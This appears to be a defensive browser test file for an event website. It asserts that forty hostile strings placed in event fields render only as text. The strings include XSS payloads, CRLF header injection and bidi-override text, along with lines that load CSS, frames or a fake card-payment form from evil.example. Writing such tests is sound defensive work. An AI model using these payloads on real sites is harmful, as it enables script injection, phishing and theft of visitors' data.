"""Text that attacks the page it is shown on, in a real browser."""

import json
import re
from urllib.parse import urlencode

import pytest

PWN = "window.pwned=1"
STACK = "Z" + "\u0310\u0321\u0353\u035d" * 40 + "algo" + "\u0e49" * 60
"""One character to browsers, as wide as they like, and never broken."""

HOSTILE = [
    f"<script>{PWN}</script>",
    f"<img src=x onerror={PWN}>",
    f"<svg onload={PWN}><circle r=9>",
    f"<svg><script>{PWN}</script></svg>",
    f"javascript:{PWN}",
    f" JaVaScRiPt:{PWN}//https://club.example/",
    f"java\tscript:{PWN}",
    f"data:text/html,<script>{PWN}</script>",
    f"</title><script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"<!--<script>{PWN}</script>",
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    f'" onmouseover="{PWN}" autofocus onfocus="{PWN}" x="',
    f"' onmouseover='{PWN}' x='",
    f"`${{{PWN}}}` \\u003cscript\\u003e{PWN}",
    f"]]><script>{PWN}</script><![CDATA[",
    f"&lt;script&gt;{PWN}&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp;",
    f"</style><script>{PWN}</script><style>*{{display:none}}",
    "}*{background:url(https://evil.example/css)}@import 'https://evil.example/';",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<iframe src=https://evil.example/></iframe>",
    f"<iframe srcdoc='<script>top.{PWN}</script>'></iframe>",
    "<form action=https://evil.example/><input name=card><button>Pay</button></form>",
    f"<a href=javascript:{PWN}>win</a>",
    f"<details open ontoggle={PWN}><summary>x</summary>",
    f"<math><mi xlink:href=javascript:{PWN}>x",
    "</bdi></h1></main></body></html><plaintext>",
    "<textarea><xmp><noscript><template>",
    "first\r\nSet-Cookie: a=b\r\n\r\n<b>second</b>\u2028third\u0085fourth",
    "\u202egnihtemos siht si\u202e \u202dleft",
    "\u2067open isolate \u2066and another \u2068never closed",
    "zero\u200bwidth\u200c\u200d\ufeff\u2060\u00ad\u180ejoined",
    "W" * 400,
    "跑" * 200 + "ﷺ" * 20 + "𒐫" * 20,
    "👩‍👩‍👧‍👦" * 60 + "🏴\U000e0067\U000e0062\U000e007f" * 9,
    STACK,
    "https://club.example/" + "very-long-" * 150 + "?a=<script>&b='\"",
    "//evil.example/\\evil.example/%0d%0a%3Cscript%3E\x00\x1b[31m\x7f",
]
FEW = 5
"""Strings for each event; all of them are in all of its fields."""

WIDTHS = (320, 768, 1280)

ELEMENTS = set(
    re.findall(
        r"\S+",
        "html head meta title link script style body a header main footer p b span div h1 h2 bdi"
        " small section table caption thead tbody tr th td ul li strong code button img iframe s"
        " br form label input select option pre",
    )
)
"""What our own templates are made of."""

FIND = {
    "elements": "() => [...new Set([...document.querySelectorAll('*')].map(e => e.localName))]",
    "handlers": """() => [...document.querySelectorAll('*')].flatMap(each =>
        [...each.attributes].filter(a => /^on|^srcdoc$|^style$|^action$/.test(a.name)
            && !(a.name == 'action' && each.matches('form.find'))).map(a => a.name))""",
    "sources": "() => [...document.querySelectorAll('[src]')].map(each => each.src)",
    "links": "() => [...document.querySelectorAll('[href]')].map(each => each.href)",
    "counts": """() => ['script', 'style', 'img', 'iframe', 'form', 'title', 'body', 'meta']
        .map(tag => document.querySelectorAll(tag).length)""",
    "overflow": "() => document.documentElement.scrollWidth - innerWidth",
    "cut": """() => document.querySelector('main').scrollWidth
        - document.querySelector('main').clientWidth""",
    "json": "() => document.querySelector('script[type=\"application/ld+json\"]').text",
}
RECORD = """addEventListener('securitypolicyviolation', event =>
    console.error(`${event.violatedDirective} ${event.blockedURI}`))"""


def one_line(text):
    """As pages show a text: without what is no text, and with one space where there are some."""
    ends = {"\u2028": " ", "\u0085": " "}
    shown = "".join(ends.get(each, each) for each in text)
    return " ".join("".join(c for c in shown if c in "\t\r\n" or not is_control(c)).split())


def is_control(character):
    return ord(character) < 32 or 127 <= ord(character) < 160


def an_event(site, number, texts):
    """The page of an event with each text as a run's, and all of them as its own."""
    whole = " ".join(texts)
    return site.publish(
        f"hostile-{number}",
        [
            {
                "distanceLabel": text,
                "distanceStandard": texts[n - 1],
                "eventStatus": texts[n - 2],
                "registrationOverride": texts[n - 3],
                "registrationUrl": text if n % 2 else f"https://club.example/{text}",
            }
            for n, text in enumerate(texts)
        ],
        name=whole,
        slug=whole,
        type=texts[0],
        address=dict(zip(("venue", "street", "city", "state", "country"), texts, strict=True)),
        description="\n".join(texts),
        websiteUrl=texts[number % FEW],
        registrationUrl=f"https://club.example/{texts[0]}",
    )


@pytest.fixture(scope="module")
def pages(site):
    """The events' pages, and the texts in them."""
    groups = [HOSTILE[n : n + FEW] for n in range(0, len(HOSTILE), FEW)]
    return [(an_event(site, number, texts), texts) for number, texts in enumerate(groups)]


@pytest.fixture
def visiting(visit):
    """A visitor whose browser tells what the policy of a page kept from happening."""
    return visit(script=RECORD)


def harmless(visiting, site):
    """Nothing of the text has become more than text on the page that is shown."""
    page = visiting.page
    assert page.evaluate("window.pwned") is None
    assert set(page.evaluate(FIND["elements"])) <= ELEMENTS
    assert page.evaluate(FIND["handlers"]) == []
    assert all(url.startswith(f"{site.url}/") for url in page.evaluate(FIND["sources"]))
    for url in page.evaluate(FIND["links"]):
        assert url.startswith(("https://", "webcal://127.0.0.1:", f"{site.url}/")), url
        assert not url.startswith("https://evil.example"), url
    for width in WIDTHS:
        page.set_viewport_size({"width": width, "height": 900})
        assert page.evaluate(FIND["overflow"]) <= 0, f"{page.url} at {width} px"
        if STACK not in str(page.locator("main").text_content()):
            assert page.evaluate(FIND["cut"]) <= 0, f"{page.url} at {width} px"
    assert [each for each in visiting.alarms if "the server responded" not in each] == []
    assert [url for url in visiting.requests if not url.startswith(f"{site.url}/")] == []


@pytest.mark.parametrize("number", range(len(HOSTILE) // FEW))
class TestFiveOfFortyTexts:
    def test_are_text_on_the_event_s_page(self, visiting, site, pages, number):
        url, texts = pages[number]
        page = visiting.page
        page.goto(url)

        harmless(visiting, site)
        assert page.evaluate(FIND["counts"]) == [2, 0, 1, 0, 0, 1, 1, 9]
        name = one_line(" ".join(texts))
        assert page.locator("h1").text_content() == name
        labels = page.locator("tbody th bdi").all_text_contents()
        assert labels == [one_line(text) for text in texts]
        described = page.locator(".prose").text_content()
        assert one_line(described) == name
        assert json.loads(page.evaluate(FIND["json"]))["name"] == name

    def test_are_text_in_the_widget_and_the_kit(self, visiting, site, pages, number):
        url, texts = pages[number]
        page = visiting.page
        page.goto(f"{url}/embed")
        harmless(visiting, site)
        assert page.evaluate(FIND["counts"]) == [1, 0, 0, 0, 0, 1, 1, 4]
        assert page.locator("h1").text_content() == one_line(" ".join(texts))

        page.goto(f"{url}/embed-kit")
        harmless(visiting, site)
        assert page.evaluate(FIND["counts"]) == [1, 1, 0, 1, 1, 1, 1, 4]
        assert page.locator("h1 bdi").text_content() == one_line(" ".join(texts))


def test_all_forty_are_text_on_the_first_page(visiting, site, pages):
    assert len(HOSTILE) == len(set(HOSTILE)) == 40
    page = visiting.page
    for url, _ in pages:
        page.request.get(url)
    page.goto(site.url)

    harmless(visiting, site)
    names = page.locator(".events li > a").all_text_contents()
    assert {one_line(" ".join(texts)) for _, texts in pages} <= set(names)


def test_what_is_asked_for_is_text_too(visiting, site):
    for n in range(0, len(HOSTILE), FEW):
        text = " ".join(HOSTILE[n : n + FEW])
        visiting.page.goto(f"{site.url}/?{urlencode({'event': text})}")

        kept = re.sub("[\r\n]", "", text).replace("\0", "\ufffd")  # by every browser
        assert visiting.page.get_by_role("textbox").input_value() == kept
        harmless(visiting, site)
